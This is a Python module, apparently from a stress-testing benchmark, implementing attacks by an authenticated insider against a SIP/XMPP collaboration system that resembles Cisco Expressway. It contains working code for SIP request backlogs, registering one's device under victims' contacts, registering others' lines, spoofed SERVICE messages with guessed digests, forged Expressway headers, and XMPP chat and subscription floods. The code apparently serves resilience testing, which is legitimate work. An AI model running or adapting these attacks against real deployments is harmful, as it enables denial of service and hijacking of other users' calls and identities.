"""Attacks of a user who has an account. Each lasts, and is begun anew when it was thrown out."""

from __future__ import annotations

import asyncio
import base64
from collections.abc import Awaitable, Callable
from dataclasses import dataclass

from benchmarks.storm import sip
from benchmarks.storm.ground import Ground, basic, drain, let_go

PADDING = "p" * 28_000
BODY = "x" * 30_000


@dataclass(slots=True)
class Insiders(Ground):
    """Attacks with an account."""

    # ---- SIP

    async def zone_backlog(self, until: float) -> None:
        """Send long requests through E to C faster than they are answered."""
        await self._edge_configuration()
        loop, burst = asyncio.get_running_loop(), 20
        async with sip.Line(self) as line:
            while loop.time() < until and line.goes_on:
                for _ in range(burst):  # a second's share at once, so that it is a backlog
                    await line.send("OPTIONS", f"X-Padding: {PADDING}")
                    self.done["zone_backlog"] += 1
                await self.pause("zone_backlog", burst)

    async def hijacking(self, until: float) -> None:
        """Register the own device under the contact of somebody else."""

        async def step(line: sip.Line) -> None:
            victim = self.draw.choice([each for each in self.target.victims if each.contact])
            await line.send("REGISTER", sip.contact(self.target.device, *victim.contact.split(" ")))

        await self._on_lines("hijacking", step, until)

    async def foreign_lines(self, until: float) -> None:
        """Register somebody else's line and device with the own account."""

        async def step(line: sip.Line) -> None:
            victim = self.draw.choice(self.target.victims)
            await line.send("REGISTER", sip.contact(victim.device), number=victim.number)

        await self._on_lines("foreign_lines", step, until)

    async def wrong_proofs(self, until: float) -> None:
        """Go on with wrong digests on a connection that was granted its account."""

        async def step(line: sip.Line) -> None:
            await line.send("OPTIONS", response=f"{self.draw.getrandbits(128):032x}")

        await self._on_lines("wrong_proofs", step, until)

    async def service_spoofing(self, until: float) -> None:
        """Send SERVICE with a guess of somebody's digest, as only Expressway-E may."""

        async def step(line: sip.Line) -> None:
            host, victim = self.target.node, self.draw.choice(self.target.victims)
            text = f"username={victim.user}\r\nresponse={self.draw.getrandbits(128):032x}\r\n".encode()
            more = ("Event: service", "Content-Type: application/x-cisco-service", f'Identity: "{self.word()}"')
            await line.send("SERVICE", *more, uri=f"sip:serviceserver@{host}", body=text)

        await self._on_lines("service_spoofing", step, until)

    async def forged_servers(self, until: float) -> None:
        """Claim to be an Expressway by what a message says of its sender."""

        async def step(line: sip.Line) -> None:
            edge = self.target.edge
            more = (
                "Server: TANDBERG/4137 (X14.3.0)",
                "User-Agent: TANDBERG/4137 (X14.3.0)",
                f"Record-Route: <sip:proxy-call-id=x@{edge}:7001;transport=tls;lr>",
                f"Path: <sip:{edge}:7001;transport=tls;lr>",
                "P-Asserted-Identity: <sip:serviceproxy@example.com>",
            )
            await line.send("OPTIONS", *more)

        await self._on_lines("forged_servers", step, until)

    async def _on_lines(self, name: str, step: Callable[[sip.Line], Awaitable[None]], until: float) -> None:
        """Take a step at the attack's rate on a line of the attacker's, and on another when that is used up."""
        await self._edge_configuration()
        loop = asyncio.get_running_loop()
        while loop.time() < until:
            async with sip.Line(self) as line:
                while loop.time() < until and line.goes_on:
                    await step(line)
                    self.done[name] += 1
                    await self.pause(name)
            await asyncio.sleep(0.2)

    # ---- XMPP

    async def chat_flood(self, until: float) -> None:
        """Send messages fast to a session that does not read."""
        _, deaf, address = await self._chat_session()
        reader, writer, _ = await self._chat_session()
        deaf.transport.pause_reading()  # type: ignore[attr-defined]  # a read transport as well
        stanza = f"<message to='{address}' type='chat'><body>{BODY}</body></message>"
        try:
            await self._stanzas("chat_flood", reader, writer, lambda: stanza, until)
        finally:
            let_go(deaf)

    async def subscription_flood(self, until: float) -> None:
        """Ask for the presence of everybody, and of many who do not exist."""
        reader, writer, _ = await self._chat_session()

        def stanza() -> str:
            somebody = self.draw.choice(self.target.victims).user if self.draw.random() < 0.3 else self.word()
            address = f"{somebody}@{self.target.domain}"
            if self.draw.random() < 0.5:
                return f"<presence type='subscribe' to='{address}'/>"
            item = f"<item jid='{address}'/>"
            return f"<iq type='set' id='{self.word()}'><query xmlns='jabber:iq:roster'>{item}</query></iq>"

        await self._stanzas("subscription_flood", reader, writer, stanza, until)

    async def _stanzas(
        self,
        name: str,
        reader: asyncio.StreamReader,
        writer: asyncio.StreamWriter,
        stanza: Callable[[], str],
        until: float,
    ) -> None:
        drained = asyncio.ensure_future(drain(reader))
        loop = asyncio.get_running_loop()
        try:
            while loop.time() < until and not drained.done() and not writer.is_closing():
                writer.write(stanza().encode())
                self.done[name] += 1
                await writer.drain()
                await self.pause(name)
        finally:
            drained.cancel()
            let_go(writer)

    # ---- signing in

    async def _edge_configuration(self) -> None:
        reader, writer = await self.open(8443)
        try:
            target = self.target
            authorization = basic(target.user, target.password)
            writer.write(f"GET {self.path}/get_edge_config HTTP/1.1\r\nHost: e\r\n{authorization}\r\n".encode())
            if b" 200 " not in await reader.readuntil(b"\r\n"):
                raise ValueError("no edge configuration")
        finally:
            let_go(writer)

    async def _chat_session(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter, str]:
        target = self.target
        header = (
            f"<?xml version='1.0'?><stream:stream to='{target.domain}' version='1.0' xmlns='jabber:client' "
            "xmlns:stream='http://etherx.jabber.org/streams'>"
        ).encode()
        secret = base64.b64encode(f"\0{target.user}\0{target.password}".encode()).decode()
        reader, writer = await self.open(5222, tls=False)
        writer.write(header + b"<starttls xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>")
        await reader.readuntil(b"<proceed xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>")
        await writer.start_tls(self.tls, server_hostname="storm.invalid")
        writer.write(
            header + f"<auth xmlns='urn:ietf:params:xml:ns:xmpp-sasl' mechanism='PLAIN'>{secret}</auth>".encode()
        )
        await reader.readuntil(b"<success")
        resource = f"storm{self.draw.getrandbits(32):x}"
        writer.write(
            header
            + b"<iq type='set' id='b'><bind xmlns='urn:ietf:params:xml:ns:xmpp-bind'><resource>"
            + resource.encode()
            + b"</resource></bind></iq><presence/>"
        )
        await reader.readuntil(b"<jid>")
        address = (await reader.readuntil(b"</jid>"))[: -len(b"</jid>")].decode()
        return reader, writer, address
